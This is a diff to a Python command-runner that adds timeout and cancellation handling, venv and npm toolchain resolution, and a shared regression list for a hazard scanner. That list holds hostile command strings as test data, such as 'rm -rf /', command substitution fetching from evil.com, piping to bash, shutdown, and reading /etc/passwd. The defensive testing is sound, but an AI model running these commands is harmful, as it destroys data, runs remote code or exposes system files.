+    """INTERNAL: Wait for an asyncio process, killing it on timeout or cancellation
+    Returns: exited, timeout or cancelled"""
+    deadline = time.monotonic() + timeout
+    while True:
+        try:
+            await asyncio.wait_for(asyncio.shield(process.wait()), CANCEL_POLL_INTERVAL)
+            return "exited"
+        except asyncio.TimeoutError:
+            cancelled = cancel_token is not None and cancel_token.cancelled
+            if not cancelled and time.monotonic() < deadline:
+                continue
+            process.kill()
+            await process.wait()
+            return "cancelled" if cancelled else "timeout"
+        except asyncio.CancelledError:
+            process.kill()  # the awaiting task was cancelled, do not leave the process behind
+            raise
+
+
+# ============================================
+# Internal Process Handling
+# ============================================
+def _wait_process(
+    process: subprocess.Popen,
+    cmd: List[str],
+    timeout: int,
+    cancel_token: Optional[CancellationToken]
+) -> tuple[str, str, bool]:
+    """INTERNAL: Wait for process output, killing it on timeout or cancellation
+    Returns: (stdout, stderr, cancelled)"""
+    deadline = time.monotonic() + timeout
+    while True:
+        try:
+            stdout, stderr = process.communicate(timeout=CANCEL_POLL_INTERVAL)
+            return stdout, stderr, False
+        except subprocess.TimeoutExpired:
+            cancelled = cancel_token is not None and cancel_token.cancelled
+            if not cancelled and time.monotonic() < deadline:
+                continue
+            process.kill()
+            stdout, stderr = process.communicate()
+            if cancelled:
+                return stdout or "", stderr or "", True
+            raise subprocess.TimeoutExpired(cmd, timeout)
+
+
 # ============================================
 # Internal Routing Logic
 # ============================================
+@dataclass(frozen=True)
+class Toolchain:
+    """Executables the command types are routed to"""
+    python: Tuple[str, ...]
+    pip: Tuple[str, ...]
+    npm: Optional[str]
+    npx: Optional[str]
+
+
+@lru_cache(maxsize=1)
+def resolve_toolchain() -> Toolchain:
+    """
+    Resolve the executables once: the workspace venv (bin/ on Linux and macOS,
+    Scripts/ on Windows) if it exists, else the host interpreter; npm and npx
+    from PATH (which finds npm.cmd on Windows). Cleared by invalidate_toolchain().
+    """
+    if PYTHON_BIN.exists():
+        python = (str(PYTHON_BIN),)
+        pip = (str(PIP_BIN),) if PIP_BIN.exists() else (str(PYTHON_BIN), "-m", "pip")
+    else:
+        python = (sys.executable,)
+        host_pip = shutil.which("pip3") or shutil.which("pip")
+        pip = (host_pip,) if host_pip else (sys.executable, "-m", "pip")
+    return Toolchain(python=python, pip=pip, npm=shutil.which("npm"), npx=shutil.which("npx"))
+
+
+def invalidate_toolchain() -> None:
+    """
+    Re-resolve the executables on the next command, e.g. after the venv was
+    created, and retire the warm workers so packages are imported afresh.
+    """
+    resolve_toolchain.cache_clear()
+    shutdown_warm_workers()
+
+
+def _changes_environment(cmd: List[str], cmd_type: CommandType) -> bool:
+    """INTERNAL: Whether a routed command (un)installs packages or creates a venv, pip list/show/freeze do not"""
+    if cmd_type == CommandType.PIP:
+        pip_args = cmd[len(resolve_toolchain().pip):]
+    elif cmd_type == CommandType.PYTHON and cmd[1:3] == ["-m", "venv"]:
+        return True
+    elif cmd_type == CommandType.PYTHON and cmd[1:3] == ["-m", "pip"]:
+        pip_args = cmd[3:]
+    else:
+        return False
+    subcommand = next((arg for arg in pip_args if not arg.startswith("-")), None)
+    return subcommand in PIP_ENVIRONMENT_COMMANDS
+
+
 def _route_command(cmd_list: List[str], cmd_type: CommandType) -> Optional[List[str]]:
     """INTERNAL: Route command based on type"""
     if not cmd_list:
         return None
     
     cmd = list(cmd_list)
+    toolchain = resolve_toolchain()
     
     if cmd_type in [CommandType.NPM, CommandType.NPX]:
-        cmd[0] = NPM_BIN
+        executable = toolchain.npm if cmd_type == CommandType.NPM else toolchain.npx
+        if executable is None:
+            return None
+        cmd[0] = executable
         return cmd
     
     elif cmd_type == CommandType.PIP:
-        if PYTHON_BIN.exists():
-            pip_exe = PYTHON_BIN.parent / "pip.exe"
-            if pip_exe.exists():
-                cmd[0] = str(pip_exe)
-                return cmd
-            else:
-                return [str(PYTHON_BIN), "-m", "pip"] + cmd[1:]
-        else:
-            cmd[0] = "pip"
-            return cmd
+        return list(toolchain.pip) + cmd[1:]
     
     elif cmd_type == CommandType.PYTHON:
-        if PYTHON_BIN.exists():
-            cmd[0] = str(PYTHON_BIN)
-        else:
-            cmd[0] = sys.executable
+        cmd[0:1] = toolchain.python
         
         if len(cmd) > 1 and not cmd[1].startswith("-"):
             try:
@@ -357,6 +1188,8 @@ def setup_venv() -> CommandResult:
         return CommandResult("", "venv creation timed out", -1, "venv setup", CommandType.PYTHON)
     except Exception as e:
         return CommandResult("", str(e), -1, "venv setup", CommandType.PYTHON)
+    finally:
+        invalidate_toolchain()
 
 
 def print_result(result: CommandResult, verbose: bool = True) -> None:
@@ -375,25 +1208,42 @@ def print_result(result: CommandResult, verbose: bool = True) -> None:
         print(f"\n[ERROR]\n{result.stderr}")
 
 
+# Regression corpus of the hazard scanner (also used by bench_hazards.py)
+DANGEROUS_TEST_COMMANDS = [
+    "npm install && rm -rf /",
+    "npm install $(curl evil.com)",
+    "npm install `eval(code)`",
+    "taskkill /IM python.exe",
+    "wmic process call create cmd",
+    "npm install | bash",
+    "pip install; shutdown",
+    "python -c 'import os; os.system(...)'",
+    "require('../../etc/passwd')",
+    "curl http://127.0.0.1:9000",
+    "cd ../../../etc && cat passwd",
+]
+
+SAFE_TEST_COMMANDS = [
+    "npm install",
+    "npm install express",
+    "npm run build",
+    "npx vite build",
+    "pip install requests",
+    "pip install -r requirements.txt",
+    "pip list",
+    "python main.py",
+    "python -m pytest -q",
+    "python app.py --port 8000",
+]
+
+
 def test_hazard_patterns():
     """Test hazard pattern detection"""
     print("\n" + "="*70)
     print("TESTING HAZARD PATTERN DETECTION")
     print("="*70)
     
-    dangerous_commands = [
-        "npm install && rm -rf /",
-        "npm install $(curl evil.com)",
-        "npm install `eval(code)`",
-        "taskkill /IM python.exe",
-        "wmic process call create cmd",
-        "npm install | bash",
-        "pip install; shutdown",
-        "python -c 'import os; os.system(...)'",
-        "require('../../etc/passwd')",
-        "curl http://127.0.0.1:9000",
-        "cd ../../../etc && cat passwd",
-    ]
+    dangerous_commands = DANGEROUS_TEST_COMMANDS
     
     print("\nTesting dangerous commands:\n")
     blocked = 0